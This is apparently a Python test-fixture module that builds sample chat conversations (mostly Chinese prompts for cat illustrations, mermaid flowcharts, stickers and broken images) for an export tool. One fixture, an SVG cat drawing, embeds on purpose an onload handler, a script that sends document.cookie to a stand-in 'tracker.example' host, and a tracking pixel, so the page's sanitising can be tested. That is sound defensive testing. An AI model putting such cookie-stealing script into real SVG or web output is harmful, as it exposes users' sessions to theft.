    body = make_image_bytes(fmt, w, h, seed, name, exif=exif, alpha=alpha)
    return Upload(_file_id(tag), name, fmt, body, make_thumbnail(body), w, h, chip)


def _gen(
    prompt: str,
    fmt: str,
    w: int,
    h: int,
    seed: int,
    model="flux",
    *,
    alt=None,
    broken=None,
    noise=False,
) -> GenImage:
    body = b"" if broken else make_image_bytes(fmt, w, h, seed, prompt[:40], noise=noise)
    return GenImage(prompt, seed, w, h, model, fmt, body, alt or prompt[:30], broken)


def _main() -> Conversation:
    long_prompt = (
        "把这张照片变成赛博朋克风格的海报 🌃：\n"
        + "\n".join(
            f"{i}. 霓虹灯、雨夜、倒影、全息广告牌，第 {i} 条细节要求保持构图不变。"
            for i in range(1, 9)
        )
        + "\n最后请给出生成参数。"
    )
    return Conversation(
        "main",
        "7c0e5a52-3f4b-4a8e-9b61-2d0f5c1e8a90",
        "猫咪插画与流程图 🎨",
        [
            Turn(
                "user",
                "请描述这张猫咪插画的画风，并画一个创作流程图。",
                uploads=[
                    _upload("main-cat", "cat-illustration.png", "png", 640, 480, 11, alpha=True)
                ],
            ),
            Turn(
                "assistant",
                "这张插画采用水彩风格，线条柔和，配色以暖橙色为主。\n\n创作流程如下：",
                think="用户上传了一张插画，需要先描述画风，再给出 mermaid 流程图。",
                diagram=(_MERMAID, _MERMAID_SVG),
            ),
            Turn("user", "Draw a cat wearing a red scarf, watercolor style 🐱🧣"),
            Turn(
                "assistant",
                "Here is your watercolor cat:",
                images=[
                    _gen("a cat wearing a red scarf, watercolor, soft light", "jpeg", 768, 512, 42)
                ],
                params="Seed: 42, Steps: 30, Sampler: Euler a, CFG scale: 7, Size: 768x512, "
                "Model: flux\nNegative prompt: blurry, low quality",
            ),
            Turn(
                "user",
                long_prompt,
                uploads=[
                    _upload(
                        "main-photo", "IMG_2041.jpg", "jpeg", 800, 600, 12, chip=True, exif=True
                    )
                ],
            ),
            Turn(
                "assistant",
                "常见的赛博朋克海报使用高对比度的洋红与青色。下面是生成的海报：",
                images=[
                    _gen("赛博朋克海报，雨夜霓虹，猫 🐈‍⬛，电影感", "webp", 512, 768, 7, "turbo")
                ],
                search=True,
            ),
        ],
    )


def _extras() -> Conversation:
    return Conversation(
        "extras",
        _uuid(2),
        "页面生成的图片 (data / blob)",
        [
            Turn("user", "给我两个渐变色块：一个内联，一个由脚本生成 ✨"),
            Turn(
                "assistant",
                "好的，下面是两个色块：",
                inline=[
                    InlineImage(
                        "data", "png", make_image_bytes("png", 96, 96, 21, "data"), "内联色块"
                    ),
                    InlineImage(
                        "blob", "webp", make_image_bytes("webp", 128, 96, 22, "blob"), "脚本色块"
                    ),
                ],
            ),
        ],
    )


def _long() -> Conversation:
    turns: list[Turn] = []
    for n in range(24):
        place = ["海边", "森林", "城市", "雪山"][n % 4]
        prompt = f"第 {n + 1} 幅：一只在{place}散步的柴犬 🐕（系列 #{n + 1}）"
        up = []
        if n in (0, 23):
            up = [_upload(f"long-{n}", f"shiba-{n + 1}.png", "png", 320, 240, 100 + n)]
        turns.append(Turn("user", prompt, uploads=up))
        imgs = []
        if n in (1, 5, 22):
            fmt = ["jpeg", "png", "webp"][n % 3]
            imgs = [_gen(f"shiba inu walking, series {n + 1}, pastel", fmt, 320, 240, 200 + n)]
        # An early diagram: unmounted at first, so only a sweep can read its rendered SVG.
        diagram = (_LONG_MERMAID, _LONG_MERMAID_SVG) if n == 3 else None
        turns.append(
            Turn("assistant", f"这是系列第 {n + 1} 幅的说明。", images=imgs, diagram=diagram)
        )
    return Conversation("long", _uuid(3), "长对话：柴犬系列 📚", turns, window=6, row_height=480)


_LONG_MERMAID = "flowchart LR\n  散步 --> 休息 --> 回家"
_LONG_MERMAID_SVG = (
    '<svg id="mermaid-7" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 60" width="240" '
    'height="60" role="graphics-document document" aria-roledescription="flowchart-v2">'
    '<rect x="5" y="15" width="60" height="30" fill="#efe" stroke="#9c9"/>'
    '<text x="15" y="35" font-size="12">散步</text><path d="M65 30h25" stroke="#666"/>'
    '<rect x="90" y="15" width="60" height="30" fill="#efe" stroke="#9c9"/>'
    '<text x="100" y="35" font-size="12">休息</text><path d="M150 30h25" stroke="#666"/>'
    '<rect x="175" y="15" width="60" height="30" fill="#efe" stroke="#9c9"/>'
    '<text x="185" y="35" font-size="12">回家</text></svg>'
)


def _mermaid_live_svg(labels: list[str], fill: str) -> str:
    """A chart as mermaid.render gives it: a root id the page picks at random (``__RID__``, and a
    node counter ``__N__``, both replaced by page.js on every render), a ``<style>`` scoped by
    that id, an arrow marker, and HTML labels inside ``<foreignObject>``."""
    width = 20 + 95 * len(labels)
    parts = [
        f'<svg id="mermaid-__RID__" width="100%" xmlns="http://www.w3.org/2000/svg" '
        f'class="flowchart" style="max-width: {width}px;" viewBox="0 0 {width} 60" '
        'role="graphics-document document" aria-roledescription="flowchart-v2">'
        '<style>#mermaid-__RID__{font-family:"trebuchet ms",verdana,arial,sans-serif;'
        f"font-size:14px;fill:#333;}}#mermaid-__RID__ .node rect{{fill:{fill};stroke:#9370DB;}}"
        "#mermaid-__RID__ .nodeLabel p{margin:0}</style>"
        '<g><marker id="mermaid-__RID___flowchart-v2-pointEnd" viewBox="0 0 10 10" refX="5" '
        'refY="5" markerWidth="8" markerHeight="8" orient="auto"><path d="M 0 0 L 10 5 L 0 10 z"/>'
        '</marker><g class="edgePaths">'
    ]
    for k in range(len(labels) - 1):
        x = 10 + 95 * k + 80
        parts.append(
            f'<path d="M{x},30L{x + 15},30" id="L_{k}_{k + 1}_0" stroke="#333" '
            'marker-end="url(#mermaid-__RID___flowchart-v2-pointEnd)"/>'
        )
    parts.append('</g><g class="nodes">')
    for k, label in enumerate(labels):
        parts.append(
            f'<g class="node default" id="mermaid-__RID__-flowchart-n{k}-__N__" '
            f'transform="translate({10 + 95 * k},15)"><rect width="80" height="30"/>'
            '<g class="label" transform="translate(5,5)"><foreignObject width="70" height="20">'
            '<div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; width: 70px; '
            'text-align: center; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel">'
            f"<p>{html.escape(label)}</p></span></div></foreignObject></g></g>"
        )
    parts.append("</g></g></svg>")
    return "".join(parts)


#: An SVG drawing as a model writes it in an ``svg`` block, with what a page must never run or
#: load: a script, an event handler and an outside image.
_CAT_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" width="200" height="200"
     onload="alert('hi')">
  <script>fetch('https://tracker.example/steal?c=' + document.cookie)</script>
  <rect width="200" height="200" fill="#fdf6e3"/>
  <circle cx="100" cy="115" r="60" fill="#f4a261"/>
  <polygon points="55,75 68,22 92,62" fill="#e76f51"/>
  <polygon points="145,75 132,22 108,62" fill="#e76f51"/>
  <circle cx="80" cy="105" r="8" fill="#264653"/>
  <circle cx="120" cy="105" r="8" fill="#264653"/>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <text x="100" y="192" font-size="18" text-anchor="middle" fill="#264653">猫 cat</text>
</svg>"""

_SUN_HTML = """<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>太阳</title></head>
<body>
<svg viewBox="0 0 120 120" width="240" height="240">
  <rect width="120" height="120" fill="#e0f2fe"/>
  <circle cx="60" cy="60" r="30" fill="gold"/>
  <g stroke="orange" stroke-width="4">
    <line x1="60" y1="5" x2="60" y2="20"/><line x1="60" y1="100" x2="60" y2="115"/>
    <line x1="5" y1="60" x2="20" y2="60"/><line x1="100" y1="60" x2="115" y2="60"/>
  </g>
</svg>
</body>
</html>"""


_SUN_BLOCK = CodeBlock("html", _SUN_HTML, drawing=True, marker="gold")


def _live() -> Conversation:
    """The page in the shape others captured from the live site (reference §13): see
    ``Conversation.live``. Charts in turns 1 and 5 are not mounted when it opens (only four rows
    are); the chart in turn 11 is, and is rendered again, with new ids, on every remount."""
    photo = CdnImage(
        "photos/sunrise-reference.jpg",
        "jpeg",
        make_image_bytes("jpeg", 480, 320, 61, "sunrise reference"),
        "日出参考照片",
    )
    turns = [
        Turn("user", "画一个登录流程图，用 mermaid"),
        Turn(
            "assistant",
            "登录流程如下：",
            think="用户要一个 mermaid 流程图。",
            diagram=(
                "flowchart LR\n  打开页面 --> 登录 --> 首页",
                _mermaid_live_svg(["打开页面", "登录", "首页"], "#ECECFF"),
            ),
        ),
        Turn("user", "用 SVG 画一只猫 🐱"),
        Turn(
            "assistant",
            "先试一下打印，再画猫：",
            code=[
                CodeBlock("python", "print('hello')\nfor i in range(3):\n    print(i)"),
                CodeBlock("svg", _CAT_SVG, drawing=True, marker="猫 cat"),
            ],
        ),
        Turn("user", "再画一个一天的流程图"),
        Turn(
            "assistant",
            "一天：",
            diagram=(
                "flowchart LR\n  日出 --> 正午 --> 日落",
                _mermaid_live_svg(["日出", "正午", "日落"], "#FFF4D6"),
            ),
        ),
        Turn("user", "给我一张日出的参考照片"),
        Turn("assistant", "参考照片：", cdn=[photo]),
        Turn("user", "用 HTML 画一个太阳"),
        Turn("assistant", "太阳：", code=[_SUN_BLOCK]),
        Turn("user", "最后把整个过程画成流程图"),
        Turn(
            "assistant",
            "整个过程：",
            diagram=(
                "flowchart LR\n  流程图 --> 猫 --> 太阳",
                _mermaid_live_svg(["流程图", "猫", "太阳"], "#E6F4EA"),
            ),
        ),
        Turn("user", "谢谢 🙏"),
        Turn("assistant", "不客气！"),
    ]
    old_answer = (
        '一只狗：\n\n```svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        '<rect width="10" height="10" fill="brown"/></svg>\n```'
    )
    return Conversation(
        "live",
        _uuid(13),
        "画图练习（真实页面结构）🎨",
        turns,
        window=4,
        row_height=420,
        live=True,
        edited=(2, "用 SVG 画一只狗", old_answer),
    )


def _batch50() -> Conversation:
    turns: list[Turn] = []
    emojis = "😀🐱🌸🚀🍜🎈🌈🐼🍉⭐"
    for n in range(10):
        turns.append(Turn("user", f"表情包第 {n + 1} 组 {emojis[n]}：五张不同颜色的小图"))
        imgs = [
            _gen(
                f"sticker {n + 1}-{k + 1} {emojis[n]} 贴纸",
                ["png", "jpeg", "webp"][(n + k) % 3],
                160,
                160,
                1000 + 10 * n + k,
                "flux",
            )
            for k in range(5)
        ]
        turns.append(Turn("assistant", f"第 {n + 1} 组：", images=imgs))
    return Conversation("batch50", _uuid(4), "50 张表情包 😀", turns)


def _broken() -> Conversation:
    return Conversation(
        "broken",
        _uuid(5),
        "坏链接测试",
        [
            Turn("user", "画五张风景，其中有的会失败"),
            Turn(
                "assistant",
                "五张风景：",
                images=[
                    _gen("mountain lake at dawn", "jpeg", 256, 192, 501),
                    _gen("desert dunes at noon", "jpeg", 256, 192, 502, broken="404"),
                    _gen("forest path in autumn", "png", 256, 192, 503),
                    _gen("city skyline at night", "jpeg", 256, 192, 504, broken="html"),
                    _gen("snowy village 🏔️", "webp", 256, 192, 505),
                ],
            ),
        ],
    )


def _bench() -> Conversation:
    turns: list[Turn] = []
    for n in range(5):
        turns.append(Turn("user", f"benchmark batch {n + 1}: ten large images"))
        imgs = [
            _gen(
                f"benchmark image {10 * n + k + 1}", "png", 880, 880, 5000 + 10 * n + k, noise=True
            )
            for k in range(10)
        ]
        turns.append(Turn("assistant", f"batch {n + 1}", images=imgs))
    return Conversation("bench", _uuid(6), "Benchmark: 50 × 2 MB", turns)


def build_sample(*, bench: bool = False) -> Sample:
    """All sample conversations; ``bench`` adds 50 images of ~2 MB each (about 100 MB, ~2 s)."""
    from dsexport.demo import sample_export  # rich text and a share page, for exports

    convs = [_main(), _extras(), _long(), _batch50(), _broken(), _live()]
    convs += [sample_export.rich(), sample_export.share()]
    if bench:
        convs.append(_bench())
    static = {
        "/favicon.ico": (make_image_bytes("png", 32, 32, 1, ""), "image/png"),
        "/static/avatar.png": (make_image_bytes("png", 64, 64, 2, ""), "image/png"),
        "/static/site-icons/1.png": (make_image_bytes("png", 16, 16, 3, ""), "image/png"),
        "/static/site-icons/2.png": (make_image_bytes("png", 16, 16, 4, ""), "image/png"),
    }
    return Sample(convs, static)
